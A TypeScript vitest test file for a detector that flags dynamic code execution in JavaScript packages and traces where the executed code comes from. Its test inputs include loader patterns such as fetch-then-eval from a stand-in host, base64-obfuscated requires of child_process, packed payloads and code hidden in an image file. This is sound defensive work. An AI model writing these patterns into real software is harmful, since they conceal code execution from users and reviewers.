// Code that is made while the program runs.
import { expect, test } from 'vitest';
import { dynamicCode } from '../../src/behaviors/dynamic-code.ts';
import { factsOf, HOSTILE } from './facts.ts';

const of = (source: string, path?: string) => factsOf(dynamicCode, 'dynamic-code', source, path);

test.each<[string, string, string, string | undefined]>([
  ['eval of a constant', "eval('1 + 1')", 'eval', '1 + 1'],
  ['indirect eval', "(0, eval)('1 + 1')", 'eval', '1 + 1'],
  ['aliased eval', "const e = globalThis['ev' + 'al']; e('1')", 'eval', '1'],
  ['decoded', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", 'eval', 'console.log(1)'],
  ['atob', "eval(atob('Y29uc29sZS5sb2coMSk='))", 'eval', 'console.log(1)'],
  ['Function', "new Function('a', 'return a')(1)", 'Function', 'return a'],
  ['Function without new', "Function('return this')()", 'Function', 'return this'],
  ['constructor of a constructor', "[].constructor.constructor('return 1')()", 'Function', 'return 1'],
  ['constructor of an asynchronous function', "(async () => {}).constructor('return 1')()", 'Function', 'return 1'],
  ['prototype of an asynchronous function', "const A = Object.getPrototypeOf(async function () {}).constructor; new A('x()')", 'Object.getPrototypeOf().constructor', 'x()'],
  ['constructor of a method', "[].filter.constructor('return 1')()", 'Function', 'return 1'],
  ['vm', "require('vm').runInThisContext('x()')", 'vm.runInThisContext', 'x()'],
  ['vm.Script', "import { Script } from 'node:vm'; new Script('x()')", 'vm.Script', 'x()'],
  ['module', "const m = new module.constructor(); m._compile('x()', 'a.js')", 'module._compile', 'x()'],
  ['Module', "const Module = require('module'); const m = new Module('a'); m._compile('x()', 'a.js')", 'module()._compile', 'x()'],
  ['timer with text', "setTimeout('x()', 1)", 'setTimeout', 'x()'],
  ['worker of text', "const { Worker } = require('worker_threads'); new Worker('x()', { eval: true })", 'worker_threads.Worker', 'x()'],
  ['import of data', "import('data:text/javascript;base64,eCgp')", 'import', 'x()'],
  ['hidden module', "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())", 'require', 'child_process'],
  ['reversed module', "require('ptth'.split('').reverse().join(''))", 'require', 'http'],
  ['given module', 'export function load(name) { return require(name); }', 'require', undefined],
  ['built import', 'export const load = (name) => import(`./locale/${name}.js`)', 'import', undefined],
  ['createRequire', "import { createRequire } from 'module'; const require = createRequire(import.meta.url); export const l = (n) => require(n)", 'module.createRequire()', undefined],
])('%s', (_name, source, api, code) => {
  const facts = of(source);
  expect(facts.map((fact) => [fact.api, fact.code])).toContainEqual([api, code]);
});

test.each<[string, string]>([
  ["fetch('https://a.example/').then((r) => r.text()).then((t) => eval(t))", 'remote'],
  ["require('https').get('https://a.example/', (res) => { let d = ''; res.on('data', (c) => { d += c; }); res.on('end', () => eval(d)); })", 'remote'],
  ["new Function(require('fs').readFileSync('/tmp/x', 'utf8'))()", 'file'],
  ['export function run(code) { return eval(code); }', 'argument'],
  ['eval(process.env.X)', 'environment'],
])('the code comes from: %s', (source, kind) => {
  expect(of(source)[0]?.origins.map((origin) => origin.kind)).toContain(kind);
});

test.each([
  "require('fs')", "require('./' + 'a')", "import('./a.js')", 'setTimeout(() => x(), 1)', 'setTimeout(tick, 1)', 'this.constructor(x)', 'new a.constructor(x)', 'const has = Function.call.bind(Object.prototype.hasOwnProperty); has(a, "x")', 'function require(x) {} require(y)', 'parser.eval(x)', "new Worker('./worker.js')", 'x.constructor.name', "require.resolve(x)",
])('no fact: %s', (source) => {
  expect(of(source)).toEqual([]);
});

test('long code is cut', () => {
  expect(of(`eval('${'a'.repeat(5_000)}')`)[0]?.code).toHaveLength(200);
});

test.each(HOSTILE)('hostile source %#', (source) => {
  expect(Array.isArray(of(source))).toBe(true);
});

test('unpacked from constants: hidden; unpacked from what a caller gives: the caller\'s', () => {
  const payload = 'Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMSk=';
  const origins = (source: string) => of(source).map((fact) => fact.origins.map(({ kind }) => kind));
  expect(origins(`const zlib = require('zlib'); eval(zlib.inflateSync(Buffer.from('${payload}', 'base64')).toString())`)).toEqual([['hidden']]);
  expect(origins("const zlib = require('zlib'); exports.run = (data) => eval(zlib.inflateSync(data).toString())")).toEqual([['argument']]);
});

test('a file of the package that holds the code is told by its path', () => {
  const origins = (source: string) => of(`import fs from 'node:fs'; import path from 'node:path';\n${source}`, 'dist/index.js')[0]?.origins;
  expect(origins("const x = JSON.parse(fs.readFileSync(new URL('./words.json', import.meta.url), 'utf8')); eval(atob(x.a))")).toEqual([{ kind: 'file', path: 'dist/words.json' }]);
  expect(origins("eval(fs.readFileSync(path.join(__dirname, '..', 'logo.png')).toString('latin1'))")).toEqual([{ kind: 'file', path: 'logo.png' }]);
  expect(origins('export const run = (name) => eval(fs.readFileSync(path.join(__dirname, name)).toString())')).toEqual([{ kind: 'file' }]);
});
